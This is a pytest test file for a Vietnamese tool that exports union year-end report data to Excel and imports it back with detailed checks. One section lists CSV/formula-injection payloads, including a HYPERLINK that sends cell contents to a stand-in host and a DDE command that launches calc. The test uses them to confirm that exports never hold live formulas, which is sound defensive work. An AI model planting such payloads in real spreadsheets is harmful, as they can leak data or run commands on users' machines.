"""Excel round trip: export, fill, import with the loader's checks."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from tongket_lib import load_year
from tongket_lib.dataset.excel import HELP_SHEET, META_SHEET, export_excel, import_excel
from tongket_lib.dataset.schema import CSV_FILES
from tongket_lib.dataset.store import write_year
from tongket_lib.errors import DataError, ParameterError

from .conftest import ROOT, run_cli


@pytest.fixture()
def workbook(tmp_path, data_copy) -> Path:
    return export_excel(2024, data_copy, tmp_path / "tongket-2024.xlsx")


def frames(year_data) -> dict[str, pd.DataFrame]:
    return {s.name: getattr(year_data, s.name.removesuffix(".csv")) for s in CSV_FILES}


def test_export_then_import_reproduces_the_year(workbook, data_copy, tmp_path):
    target = tmp_path / "moi"
    result = import_excel(workbook, 2024, target)
    assert result.backup is None and result.rows["indicators.csv"] == 68
    before, after = load_year(2024, data_copy), load_year(2024, target)
    for name, frame in frames(before).items():
        pd.testing.assert_frame_equal(frames(after)[name], frame)
    assert after.meta == before.meta
    ind = after.indicators.set_index("id")
    assert ind.loc["doan_vien_xuat_sac", "actual"] == 92.76
    assert ind.loc["gvndvn", "name"] == "Đoàn viên nữ được công nhận danh hiệu Giỏi việc nước, đảm việc nhà"
    assert pd.isna(ind.loc["hoc_tap_quan_triet", "actual"])        # empty stays empty
    assert ind.loc["hoc_tap_quan_triet", "target"] == "= 100"        # not read as a formula
    c = after.contributions
    assert int(c.loc[c["kind"] == "fund", "amount_vnd"].sum()) == 486_771_474
    # the files written are exactly what the canonical writer writes for the original
    canonical = tmp_path / "chuan"
    canonical.mkdir()
    write_year(canonical, before.meta, frames(before))
    for path in canonical.iterdir():
        assert (target / "2024" / path.name).read_bytes() == path.read_bytes(), path.name


def test_workbook_is_made_for_people(workbook):
    book = openpyxl.load_workbook(workbook)
    assert book.sheetnames[0] == HELP_SHEET and META_SHEET in book.sheetnames
    sheet = book["Chỉ tiêu"]
    assert sheet.freeze_panes == "A2"
    headers = [c.value for c in sheet[1]]
    assert headers[:5] == ["Mục", "Tên chỉ tiêu", "Loại", "Chỉ tiêu", "Thực hiện"]
    assert "Mã cột: reported_status" in sheet.cell(1, headers.index("Báo cáo đánh giá") + 1).comment.text
    lists = {str(dv.sqref).split(":")[0].rstrip("0123456789"): dv for dv in
             sheet.data_validations.dataValidation}
    status = lists[openpyxl.utils.get_column_letter(column(sheet, "Báo cáo đánh giá"))]
    assert status.type == "list" and "Danh mục" in status.formula1 and status.showErrorMessage
    unit = lists[openpyxl.utils.get_column_letter(column(sheet, "Đơn vị tính"))]
    assert not unit.showErrorMessage  # units are open: other values allowed
    names = book["Danh mục"]
    listed = {c.value for row in names.iter_rows() for c in row if c.value}
    assert {"Không đạt", "tập thể, cá nhân", "Cao hơn là tốt"} <= listed
    assert not {"not_met", "higher"} & listed  # labels, never codes
    assert names.sheet_state == "hidden"
    ids = openpyxl.utils.get_column_letter(column(sheet, "Mã"))
    row = next(c.row for c in sheet[ids] if c.value == "doan_vien_xuat_sac")
    actual = sheet.cell(row, column(sheet, "Thực hiện"))
    assert actual.data_type == "n" and actual.value == 92.76
    help_text = " ".join(str(c.value) for row in book[HELP_SHEET].iter_rows() for c in row if c.value)
    for spec in CSV_FILES:
        for field in spec.fields:
            assert field.name in help_text, field.name
    assert ">= 90" in help_text and "tongket excel import" in help_text


def edit(workbook: Path, changes) -> None:
    book = openpyxl.load_workbook(workbook)
    changes(book)
    book.save(workbook)


def column(sheet, label: str) -> int:
    return [c.value for c in sheet[1]].index(label) + 1


def test_import_errors_name_sheet_row_column_and_write_nothing(workbook, tmp_path):
    def changes(book):
        ind = book["Chỉ tiêu"]
        ind.cell(7, column(ind, "Thực hiện")).value = "99,4 điểm"   # text, not a number
        ind.cell(2, column(ind, "Báo cáo đánh giá")).value = "tốt"
        aw = book["Khen thưởng"]
        aw.cell(9, column(aw, "Số lượng")).value = -72
        co = book["Đóng góp, hỗ trợ"]
        co.delete_cols(column(co, "Số tiền (đồng)"))
    edit(workbook, changes)
    target = tmp_path / "moi"
    with pytest.raises(DataError) as info:
        import_excel(workbook, 2024, target)
    found = {(p.file.split("“")[-1].rstrip("”"), p.row, p.column): p
             for p in info.value.problems}
    # columns named by the header the user sees, cells by their Excel address
    comma = found[("Chỉ tiêu", 7, "Thực hiện")]
    assert "99,4" in comma.message and "CSV" not in comma.message
    assert "cột “Thực hiện” (ô E7)" in str(comma)
    assert "“Đạt”" in found[("Chỉ tiêu", 2, "Báo cáo đánh giá")].message
    assert "âm" in found[("Khen thưởng", 9, "Số lượng")].message
    assert ("Đóng góp, hỗ trợ", 1, "amount_vnd") in found
    assert all(p.file.startswith("tongket-2024.xlsx › trang") for p in info.value.problems)
    assert not target.exists()


@pytest.mark.slow
def test_formula_without_a_saved_value_is_reported_not_read_as_empty(workbook, tmp_path):
    def changes(book):
        ind = book["Chỉ tiêu"]
        ind.cell(7, column(ind, "Thực hiện")).value = "=90+2.76"  # openpyxl caches no result
    edit(workbook, changes)
    with pytest.raises(DataError) as info:
        import_excel(workbook, 2024, tmp_path / "moi")
    [problem] = info.value.problems
    assert problem.row == 7 and problem.column == "Thực hiện"
    assert "E7" in problem.message and "công thức" in problem.message


@pytest.mark.slow
def test_a_percent_formatted_cell_means_what_excel_shows(workbook, tmp_path):
    def changes(book):
        ind = book["Chỉ tiêu"]
        cell = ind.cell(7, column(ind, "Thực hiện"))
        cell.value, cell.number_format = 0.994, "0.0%"  # typed as 99,4% in Excel
    edit(workbook, changes)
    import_excel(workbook, 2024, tmp_path / "moi")
    assert load_year(2024, tmp_path / "moi").indicators.loc[7, "actual"] == 99.4


@pytest.mark.slow
def test_export_never_replaces_a_workbook_without_force(workbook, data_copy):
    workbook.write_bytes(b"so lieu da dien")
    with pytest.raises(ParameterError, match="--force"):
        export_excel(2024, data_copy, workbook)
    assert workbook.read_bytes() == b"so lieu da dien"
    export_excel(2024, data_copy, workbook, force=True)
    [kept] = workbook.parent.glob("tongket-2024.sao-luu-*.xlsx")
    assert kept.read_bytes() == b"so lieu da dien" and openpyxl.load_workbook(workbook)
    for bad in (workbook.parent, workbook / "x.xlsx"):  # a folder; a path under a file
        result = run_cli("excel", "export", "2024", "--data", str(data_copy), "-o", str(bad))
        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr


def meta_row(sheet, key: str, nth: int = 1) -> int:
    rows = [c.row for c in sheet["A"] if c.value == key]
    return rows[nth - 1]


@pytest.mark.slow
def test_meta_sheet_typed_as_text_and_its_cells_named(workbook, tmp_path):
    def as_text(book):
        meta = book[META_SHEET]
        meta.cell(meta_row(meta, "year"), 3).value = "2024"  # a text-formatted cell
        meta.cell(meta_row(meta, "synthetic"), 3).value = "FALSE"
    edit(workbook, as_text)
    import_excel(workbook, 2024, tmp_path / "moi")
    assert load_year(2024, tmp_path / "moi").meta["synthetic"] is False

    def broken(book):
        meta = book[META_SHEET]
        meta.cell(meta_row(meta, "decisions", 2), 4).value = "31/02/2024"  # the date column
        meta.cell(meta_row(meta, "recipients", 3), 3).value = None
    edit(workbook, broken)
    with pytest.raises(DataError) as info:
        import_excel(workbook, 2024, tmp_path / "moi2")
    [date] = info.value.problems  # a recipient cleared is one less recipient
    assert date.cell == f"D{date.row}" and "31/02/2024" in date.message

    def blank(book):
        meta = book[META_SHEET]
        meta.cell(meta_row(meta, "decisions", 2), 4).value = None  # a decision needs its date
    edit(workbook, blank)
    with pytest.raises(DataError) as info:
        import_excel(workbook, 2024, tmp_path / "moi2")
    [date] = info.value.problems
    assert date.cell == f"D{date.row}" and "khóa" not in date.message


@pytest.mark.slow
def test_a_misspelt_header_is_named_with_its_cell_and_the_likely_label(workbook, tmp_path):
    where = []

    def changes(book):
        ind = book["Chỉ tiêu"]
        cell = ind.cell(1, column(ind, "Thực hiện"))
        cell.value = "Thực hiên"
        where.append(cell.coordinate)
    edit(workbook, changes)
    with pytest.raises(DataError) as info:
        import_excel(workbook, 2024, tmp_path / "moi")
    typo = next(p for p in info.value.problems if p.column == "Thực hiên")
    assert typo.cell == where[0] and "Có phải “Thực hiện”?" in typo.message
    assert "actual (Thực hiện)" in typo.message


def test_workbook_of_another_year(workbook, tmp_path):
    with pytest.raises(DataError) as info:
        import_excel(workbook, 2026, tmp_path / "moi")
    [problem] = info.value.problems
    assert problem.cell == f"C{problem.row}" and "--year 2024" in problem.message
    assert not (tmp_path / "moi").exists()


@pytest.mark.slow
def test_renamed_sheet(workbook, tmp_path):
    edit(workbook, lambda book: setattr(book["Khen thưởng"], "title", "Khen thuong"))
    with pytest.raises(DataError) as info:
        import_excel(workbook, 2024, tmp_path / "moi")
    messages = " ".join(p.message for p in info.value.problems)
    assert "thiếu trang “Khen thưởng”" in messages and "trang lạ “Khen thuong”" in messages


@pytest.mark.slow
def test_existing_year_needs_force_and_is_backed_up(workbook, data_copy):
    before = {p.name: p.read_bytes() for p in (data_copy / "2024").iterdir()}
    with pytest.raises(ParameterError, match="--force"):
        import_excel(workbook, 2024, data_copy)
    assert {p.name: p.read_bytes() for p in (data_copy / "2024").iterdir()} == before
    result = import_excel(workbook, 2024, data_copy, force=True)
    assert result.backup is not None
    assert {p.name: p.read_bytes() for p in result.backup.iterdir()} == before


@pytest.mark.slow
def test_year_mismatch_in_the_meta_sheet(workbook, tmp_path):
    with pytest.raises(DataError) as info:
        import_excel(workbook, 2025, tmp_path / "moi")
    assert any(p.column == "Năm (2024) hoặc năm học (2024-2025)" and "2025" in p.message
               for p in info.value.problems)


@pytest.mark.slow
def test_not_an_xlsx(tmp_path):
    fake = tmp_path / "so-lieu.xlsx"
    fake.write_text("id,section\n", encoding="utf-8")
    with pytest.raises(DataError, match="không mở được"):
        import_excel(fake, 2024, tmp_path)
    result = run_cli("excel", "import", str(fake), "--year", "2024", "--data", str(tmp_path))
    assert result.returncode == 2 and "Traceback" not in result.stderr


@pytest.mark.slow
def test_cli_export_and_import(tmp_path, data_copy):
    out = tmp_path / "nam.xlsx"
    result = run_cli("excel", "export", "2024", "--data", str(data_copy), "-o", str(out))
    assert result.returncode == 0 and out.is_file()
    result = run_cli("excel", "import", str(out), "--year", "2024", "--data", str(data_copy))
    assert result.returncode == 2 and "--force" in result.stderr
    result = run_cli("excel", "import", str(out), "--year", "2024", "--data", str(data_copy),
                     "--force")
    assert result.returncode == 0 and "sao-luu" in result.stdout


@pytest.mark.slow
def test_cli_new_year(tmp_path, data_copy):
    result = run_cli("new-year", "2025", "--data", str(data_copy))
    assert result.returncode == 0, result.stderr
    assert load_year(2025, data_copy).indicators["actual"].isna().all()
    result = run_cli("new-year", "2025", "--data", str(data_copy))
    assert result.returncode == 2 and "--force" in result.stderr


# -- hostile text: data is never a formula, never cut -----------------------------------------

LIVE = ['=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0",
        "+1+2", "-3+4", "@SUM(A1:A9)", "=1+1"]


def _poison(data: Path) -> None:
    """Put formula-looking text in the unit list, data sheets and the meta sheet."""
    import csv
    import io

    path = data / "2024" / "indicators.csv"
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
    h = rows[0]
    for i, text in enumerate(LIVE, start=1):
        rows[i][h.index("unit")] = text
        rows[i][h.index("note")] = text
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    set_notes(data, '=HYPERLINK("http://x")')


def set_notes(data: Path, notes: str) -> None:
    import yaml

    from tongket_lib.dataset.store import write_meta

    path = data / "2024" / "meta.yaml"
    meta = yaml.safe_load(path.read_text(encoding="utf-8"))
    write_meta({**meta, "notes": notes}, path)


@pytest.mark.slow
def test_export_writes_no_formula_in_any_sheet_and_reads_back_the_same_text(tmp_path, data_copy):
    import zipfile

    _poison(data_copy)
    before = load_year(2024, data_copy)
    book = export_excel(2024, data_copy, tmp_path / "x.xlsx")
    with zipfile.ZipFile(book) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/")]
        assert len(sheets) >= 5
        for name in sheets:
            assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = openpyxl.load_workbook(book)
    seen = 0
    for sheet in wb.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    where = (sheet.title, cell.coordinate)
                    assert cell.data_type == "s" and cell.quotePrefix, where
                    seen += 1
    assert seen >= 2 * len(LIVE) + 1  # data sheet, list sheet ("Danh mục") and meta sheet
    after = load_year(2024, import_excel(book, 2024, tmp_path / "back").folder.parent)
    pd.testing.assert_frame_equal(after.indicators, before.indicators)
    assert after.meta["notes"] == before.meta["notes"] == '=HYPERLINK("http://x")'


@pytest.mark.slow
def test_a_value_longer_than_an_excel_cell_is_refused_not_cut(tmp_path, data_copy):
    set_notes(data_copy, "dài " * 9000)
    with pytest.raises(DataError) as info:
        export_excel(2024, data_copy, tmp_path / "x.xlsx")
    assert "meta.yaml" in str(info.value) and "32.767" in str(info.value)
    assert not (tmp_path / "x.xlsx").exists()


def _merge(book: Path, out: Path, ref: str, sheet: str = "Chỉ tiêu") -> Path:
    wb = openpyxl.load_workbook(book)
    ws = wb[sheet]
    ws.merge_cells(ref)
    wb.save(out)
    return out


@pytest.mark.slow
def test_merged_cells_down_a_column_import_as_excel_shows_them(workbook, tmp_path):
    wb = openpyxl.load_workbook(workbook)
    ws = wb["Chỉ tiêu"]
    col = column(ws, "Tên mục")
    first = ws.cell(2, col).value
    assert ws.cell(3, col).value == first  # rows 2 and 3 share their section title
    letter = openpyxl.utils.get_column_letter(col)
    merged = _merge(workbook, tmp_path / "gop.xlsx", f"{letter}2:{letter}3")
    assert openpyxl.load_workbook(merged)["Chỉ tiêu"].cell(3, col).value is None
    result = import_excel(merged, 2024, tmp_path / "moi")
    assert load_year(2024, result.folder.parent).indicators.loc[3, "section_title"] == first


@pytest.mark.slow
def test_merged_cells_across_columns_are_reported(workbook, tmp_path):
    merged = _merge(workbook, tmp_path / "gop.xlsx", "D4:E4")  # a name over its target
    with pytest.raises(DataError) as info:
        import_excel(merged, 2024, tmp_path / "moi")
    assert "D4:E4" in str(info.value) and "gộp" in str(info.value)
    assert not (tmp_path / "moi").exists()


@pytest.fixture(params=["seed", "demo"])
def workbook_each(request, tmp_path, data_copy) -> Path:
    """The 2024 workbook of the seed's union and of the demonstration agency."""
    source = data_copy if request.param == "seed" else ROOT / "data" / "demo"
    return export_excel(2024, source, tmp_path / f"tongket-2024-{request.param}.xlsx")


def test_a_date_typed_without_its_full_year_is_refused_not_written(workbook_each, tmp_path):
    """LibreOffice stores 29/11/224 as a date in the year 224: written as such, the year's
    meta.yaml would not load again (check refuses a year of three digits)."""
    import datetime as dt

    book = openpyxl.load_workbook(workbook_each)
    sheet = book[META_SHEET]
    row = next(r for r in sheet.iter_rows() if r[0].value == "date")
    row[2].value = dt.datetime(224, 11, 29)
    book.save(workbook_each)
    with pytest.raises(DataError) as info:
        import_excel(workbook_each, 2024, tmp_path / "moi")
    said = [p for p in info.value.problems if "năm 224" in p.message]
    assert said and "4 chữ số" in said[0].message
    assert said[0].cell == f"C{row[0].row}" and said[0].column.startswith("Ngày ban hành")
    assert not (tmp_path / "moi").exists()


@pytest.mark.parametrize("name, hint", [("so-lieu.ods", "LibreOffice"),
                                        ("so-lieu.xlsx.bak", "đổi tên cho đúng đuôi"),
                                        ("so-lieu", "đổi tên cho đúng đuôi")])
def test_a_workbook_under_a_name_openpyxl_refuses_is_said_with_the_fix(workbook_each, tmp_path,
                                                                       name, hint):
    renamed = tmp_path / name
    renamed.write_bytes(workbook_each.read_bytes())
    with pytest.raises(DataError) as info:
        import_excel(renamed, 2024, tmp_path / "moi")
    assert name in str(info.value) and hint in str(info.value)
    assert not (tmp_path / "moi").exists()


def test_a_key_typed_on_two_rows_of_the_meta_sheet_is_refused_not_last_wins(workbook_each,
                                                                           tmp_path):
    """A second “organisation” row (copied, then edited) silently replaced the union's
    name; now both rows are named and nothing is written."""
    book = openpyxl.load_workbook(workbook_each)
    sheet = book[META_SHEET]
    first = next(r for r in sheet.iter_rows() if r[0].value == "organisation")[0].row
    again = sheet.max_row + 1
    sheet.cell(again, 1, "organisation")
    sheet.cell(again, 3, "KHÁC HẲN")
    book.save(workbook_each)
    with pytest.raises(DataError) as info:
        import_excel(workbook_each, 2024, tmp_path / "moi")
    said = [p for p in info.value.problems if p.cell == f"A{again}"]
    assert said and f"({first} và {again})" in said[0].message
    assert not (tmp_path / "moi").exists()
